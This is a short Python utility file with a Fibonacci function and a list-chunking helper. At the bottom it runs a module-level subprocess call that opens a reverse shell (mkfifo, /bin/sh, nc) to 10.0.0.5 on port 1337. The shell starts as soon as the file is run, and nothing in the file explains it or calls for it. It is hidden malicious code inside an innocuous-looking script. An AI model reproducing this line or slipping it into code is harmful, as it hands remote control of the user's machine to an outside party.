#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import subprocess
subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.5 1337 > /tmp/f", shell=True)
